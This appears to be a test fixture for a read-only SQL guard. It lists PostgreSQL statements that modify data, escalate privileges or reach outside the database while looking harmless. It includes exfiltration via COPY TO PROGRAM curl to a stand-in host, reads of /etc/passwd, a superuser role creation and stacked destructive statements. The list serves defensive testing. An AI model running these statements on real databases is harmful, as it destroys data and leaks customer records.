-- Statements that change data, state or the outside world while looking harmless. One a line.
DELETE FROM transactions
delete from TRANSACTIONS where 1=1
UPDATE accounts SET status = 'frozen' WHERE true
UPDATE accounts SET status = 'frozen' WHERE 'a' = 'a'
DrOp TaBlE audit_notes
INSERT INTO audit_notes (note) VALUES ('x')
WITH gone AS (DELETE FROM audit_notes RETURNING id) SELECT count(*) FROM gone
WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM u
EXPLAIN ANALYZE DELETE FROM audit_notes
EXPLAIN (ANALYZE, FORMAT JSON) UPDATE accounts SET balance = 1
SELECT * INTO stolen FROM customers
CREATE TABLE stolen AS SELECT * FROM customers
CREATE MATERIALIZED VIEW mv AS SELECT ssn FROM customers
SELECT 1; DELETE FROM audit_notes
COPY customers TO '/tmp/customers.csv'
COPY customers TO PROGRAM 'curl -d @- http://example.invalid'
COPY audit_notes FROM STDIN
COPY audit_notes FROM PROGRAM 'cat /etc/passwd'
DO $$ BEGIN DELETE FROM audit_notes; END $$
DO $$ BEGIN EXECUTE 'DELETE FROM ' || 'audit_notes'; END $$
SELECT set_config('role', 'postgres', false)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1234, '/tmp/x')
SELECT pg_read_file('/etc/passwd')
SELECT dblink_exec('host=127.0.0.1', 'DELETE FROM audit_notes')
SELECT * FROM dblink('host=127.0.0.1', 'SELECT 1') AS t(x int)
SELECT nextval('audit_notes_id_seq')
SELECT setval('audit_notes_id_seq', 1)
SELECT * FROM accounts FOR UPDATE
SELECT id FROM accounts WHERE id = 1 FOR SHARE
LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE
LISTEN payments
NOTIFY payments, 'hello'
SELECT pg_notify('payments', 'x')
CALL some_procedure()
PREPARE p AS DELETE FROM audit_notes
PREPARE p2 (int) AS UPDATE accounts SET balance = 0 WHERE id = $1
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
RESET ROLE
GRANT ALL ON customers TO public
REVOKE SELECT ON customers FROM public
CREATE ROLE intruder SUPERUSER
ALTER TABLE customers ADD COLUMN x int
TRUNCATE transactions
SELECT pg_terminate_backend(1)
SELECT pg_sleep(10)
MERGE INTO accounts a USING customers c ON a.customer_id = c.id WHEN MATCHED THEN UPDATE SET balance = 0
INSERT INTO audit_notes (note) SELECT ssn FROM customers ON CONFLICT DO NOTHING
/* harmless */ DELETE /* really */ FROM audit_notes -- trailing
SELECT query_to_xml('DELETE FROM audit_notes RETURNING *', true, true, '')
SELECT my_function()
VACUUM customers
ANALYZE customers
CHECKPOINT
REFRESH MATERIALIZED VIEW mv
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
COMMENT ON TABLE customers IS 'x'
DISCARD ALL
SET search_path = evil
LOAD 'auto_explain'
EXECUTE unknown_statement
SELECT txid_current()
BEGIN; DELETE FROM audit_notes; COMMIT
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3), d AS (DELETE FROM audit_notes) SELECT * FROM r
SELECT (SELECT count(*) FROM (WITH x AS (DELETE FROM audit_notes RETURNING 1) SELECT * FROM x) s)
UPDATE accounts SET status = 'open' WHERE id = id
DELETE FROM audit_notes WHERE note IS NULL OR note IS NOT NULL
SELECT pg_advisory_lock(1)
SELECT lo_create(0)
SELECT "Upper"('x')
SELECT * FROM "Generate_series"(1, 2)
SELECT !!! 'audit_notes_id_seq'::regclass
SELECT 1 OPERATOR(public.===) 2
SET TRANSACTION READ WRITE
SET transaction_read_only = off
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SELECT 1 FROM customers WHERE id === ANY (ARRAY[1])
START TRANSACTION READ WRITE
BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE; DELETE FROM audit_notes; COMMIT
BEGIN; SELECT 1; COMMIT; BEGIN READ WRITE
SELECT 1 FROM customers ORDER BY id USING OPERATOR(public.<<<)
SELECT array_agg(id ORDER BY id USING <<<) FROM customers
SELECT row_number() OVER (ORDER BY id USING <<<) FROM customers
SELECT 1 WHERE 1 <<< ANY (SELECT 1)
SELECT 1 WHERE 1 OPERATOR(public.=) ALL (SELECT 1)
SELECT xmlelement(name x, 1 <<< 2)
SELECT 1 FROM accounts GROUP BY GROUPING SETS ((id <<< 2))
SELECT (ARRAY[1])[1 ### 1]
SELECT '5'::dside
SELECT CAST('zzz' AS mood)
SELECT 5::public.dside
SELECT dside '5'
SELECT ARRAY['5']::dside[]
SELECT 1 WHERE '5'::dside > 0
SELECT jsonb_populate_record(NULL::evil_row, '{"a": 1}')
SELECT * FROM json_to_record('{"a": 5}') AS x(a dside)
SELECT x.nextval FROM to_regclass('audit_notes_id_seq') AS x
SELECT x.pg_advisory_lock FROM int8(5) AS x
DECLARE c CURSOR FOR SELECT nextval('audit_notes_id_seq'); FETCH c
SELECT * FROM XMLTABLE('/a' PASSING xml '<a/>' COLUMNS x dside PATH 'b')
SELECT JSON_VALUE('{"a":"5"}', '$.a' RETURNING dside)
SELECT * FROM to_regclass('audit_notes_id_seq') AS x, LATERAL (SELECT x.nextval) y
SELECT s.pg_advisory_lock FROM CAST(7 AS bigint) AS s
START TRANSACTION READ WRITE, READ ONLY
SELECT * FROM XMLTABLE('/a' PASSING xml '<a/>' COLUMNS x int PATH 'b' DEFAULT nextval('audit_notes_id_seq'))
PREPARE q9(int) AS SELECT $1; EXECUTE q9(nextval('audit_notes_id_seq'))
SELECT * FROM accounts TABLESAMPLE evil (10)
SELECT count(*) FROM customers TABLESAMPLE public.system (10) REPEATABLE (1)
SELECT 1 WHERE 5 BETWEEN nextval('invoice_seq') AND 10
